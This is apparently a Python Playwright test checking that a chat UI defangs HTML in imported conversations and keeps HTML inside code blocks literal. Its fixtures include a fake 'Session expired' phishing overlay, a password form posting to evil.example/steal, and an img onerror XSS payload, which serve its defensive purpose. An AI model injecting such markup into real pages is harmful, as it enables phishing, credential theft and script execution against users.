"""Issue #12, rendered HTML: imported chat content can't draw overlays, forms or run handlers,
and code about HTML still shows literally. Headless Chromium against the real app."""

from __future__ import annotations

import json

import pytest

pytest.importorskip("playwright.sync_api", reason="the browser tests need the playwright package")

from chat_ui import ChatUI
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

OVERLAY = (
    '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired. '
    '<a href="https://evil.example/login">log in again</a></div>'
)
FORM = (
    '<form action="https://evil.example/steal"><input name="password" placeholder="password"><button>OK</button></form>'
)
IMG = "<img src=x onerror=alert(1)>"
CODE_REPLY = (
    "Here is a login form:\n\n```html\n"
    '<form action="/login"><input name="password"></form>\n'
    "```\n\nand the tag `<input>` inline."
)

# Every element inside a rendered message: its tag, and its style attribute if it has one.
_ELEMENTS_JS = """
() => [...document.querySelectorAll('#chat [data-testid=user] *, #chat [data-testid=bot] *')]
        .map((e) => ({tag: e.tagName.toLowerCase(), style: e.getAttribute('style') || '',
                      onerror: e.getAttribute('onerror')}))
"""


def test_imported_chat_html_is_defanged_and_code_stays_literal(page, base_url, tmp_path):
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    ui = ChatUI.open(page, base_url)
    conversation = {
        "title": "hostile import",
        "messages": [
            {"role": "user", "content": f"{OVERLAY}\n\n{FORM}\n\n{IMG}"},
            {"role": "assistant", "content": CODE_REPLY},
        ],
    }
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(conversation), encoding="utf-8")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Import chat (JSON)", exact=True).click()
    chooser.value.set_files(str(path))
    expect(page.locator("#chat [data-testid=bot]").last).to_contain_text("Here is a login form", timeout=20_000)
    expect(page.locator("#chat [data-testid=user]").last).to_contain_text("log in again")
    page.wait_for_timeout(500)  # let an onerror (if any survived) fire

    elements = page.evaluate(_ELEMENTS_JS)
    styled = [e for e in elements if "fixed" in e["style"] or "z-index" in e["style"] or "inset" in e["style"]]
    assert styled == [], styled  # no overlay: the content's style attribute is gone
    assert not [e for e in elements if e["tag"] in ("form", "input", "iframe")], elements
    assert page.locator("#chat button", has_text="OK").count() == 0  # (Gradio's own copy buttons stay)
    assert not [e for e in elements if e["onerror"]], elements
    assert page.locator("form").count() == 0 and page.locator("input[name=password]").count() == 0
    assert dialogs == []
    # The fenced block and the inline code show their tags as text, exactly.
    code = page.locator("#chat [data-testid=bot] pre code").last.inner_text()
    assert '<form action="/login"><input name="password"></form>' in code
    assert "<input>" in page.locator("#chat [data-testid=bot] code").all_inner_texts()
    # The history keeps what was imported (only rendering changed): the export has it byte for byte.
    page.get_by_role("button", name="Export chat", exact=True).click()
    with page.expect_download() as download:
        page.get_by_role("button", name="⬇ JSON", exact=True).click()
    exported = json.loads(open(download.value.path(), encoding="utf-8").read())
    assert [m["content"] for m in exported["messages"]] == [m["content"] for m in conversation["messages"]]
    assert ui.message.is_visible()
